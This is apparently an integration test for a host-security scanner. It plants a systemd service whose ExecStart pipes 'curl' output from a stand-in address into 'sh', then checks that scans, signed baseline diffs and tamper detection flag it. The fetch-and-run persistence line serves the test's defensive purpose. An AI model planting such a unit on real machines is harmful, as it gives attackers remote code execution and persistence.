. /scenario/lib.sh

# Before anything is planted: a stock host is quiet, whatever this machine is made of.
whodunit scan --format json --fail-on low || { whodunit scan; exit 1; }

whodunit baseline keygen /tmp/key
whodunit baseline save /tmp/baseline --key /tmp/key
whodunit baseline diff /tmp/baseline --key /tmp/key.pub

# Planted, never started: only a scan sees what it would do.
dir=/etc/systemd/system
printf '[Service]\nExecStart=/bin/sh -c "curl -s http://192.0.2.1/x | sh"\n' >$dir/scan-me.service
code=0
whodunit scan --fail-on critical >/tmp/scan.out || code=$?
test $code -eq 1
grep -q 'critical .*\[command-network-one-liner\]' /tmp/scan.out
code=0
whodunit baseline diff /tmp/baseline --key /tmp/key.pub >/tmp/diff.out || code=$?
test $code -eq 1
grep -q '^high .*added .*unit system scan-me.service$' /tmp/diff.out

# What somebody changed is no baseline.
sed -i 's/logrotate/logrotat3/; s/apt-daily/apt-dai1y/' /tmp/baseline
code=0
whodunit baseline diff /tmp/baseline --key /tmp/key.pub 2>/tmp/error || code=$?
test $code -eq 2
grep -q 'signature is bad' /tmp/error

rm $dir/scan-me.service
whodunit scan --format json --fail-on low >/dev/null
